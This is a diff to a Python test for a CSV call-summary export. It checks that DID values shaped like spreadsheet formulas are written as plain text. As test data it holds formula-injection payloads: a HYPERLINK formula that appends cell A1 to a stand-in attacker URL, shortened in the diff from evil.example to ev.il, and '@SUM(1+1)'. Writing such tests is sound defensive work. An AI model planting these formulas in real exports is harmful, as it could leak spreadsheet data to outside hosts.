@@ -166,7 +166,7 @@ async def test_metrics(api: Api) -> None:
 
 async def test_summary_csv_never_writes_a_formula(api: Api) -> None:
     """Issue 18: a DID (it comes from the trunk) that looks like a formula is exported as text."""
-    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    hostile = '=HYPERLINK("http://ev.il/"&A1)'  # calls.did holds 32 characters
     async with api.runtime.engine.begin() as conn:
         await insert_call(conn, did=hostile)
         await insert_call(conn, minutes=1, did="@SUM(1+1)")
